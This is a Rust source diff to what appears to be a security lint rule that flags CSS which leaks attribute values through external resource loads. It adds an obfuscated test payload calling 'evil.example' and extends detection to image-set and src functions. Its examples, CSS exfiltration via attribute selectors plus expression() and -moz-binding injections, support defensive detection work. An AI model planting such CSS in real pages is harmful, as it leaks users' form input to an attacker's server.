@@ -30,6 +30,7 @@ pub(crate) static RULE: Rule = Rule {
     check: Check::Piece(look),
     examples: proofs(&[
         Example::html("{}", "<style>[[input[value^=a] ]]{background:url(https://evil.example/a)}</style>"),
+        Example::html("{}", r#"<style>@media all{[[a[data-x$="b"]]]{background:u\72l(//evil.example)}}</style>"#),
         Example::html(
             "{}",
             r#"<p style="width:[[expression(]]alert(1))">x</p><p style="[[-moz-binding]]:url(x)">y</p>"#,
@@ -193,13 +194,19 @@ fn spies(css: &str) -> Vec<Span> {
         let head = css.get(from..open).unwrap_or_default();
         let start = from + head.rfind([';', '}']).map_or(0, |at| at + 1);
         let selector = css.get(start..open).unwrap_or_default();
-        if asks_value(selector) && block.to_ascii_lowercase().contains("url(") {
+        if asks_value(selector) && fetches(block) {
             let lead = selector.len() - selector.trim_start().len();
             list.push(Span::new(start + lead, open));
         }
         from = open + 1;
     }
     list
+}
+
+/// Whether a block loads something.
+fn fetches(block: &str) -> bool {
+    let (clean, _) = cleaned(block);
+    ["url(", "image-set(", "image(", "src("].iter().any(|word| clean.contains(word))
 }
 
 fn asks_value(selector: &str) -> bool {
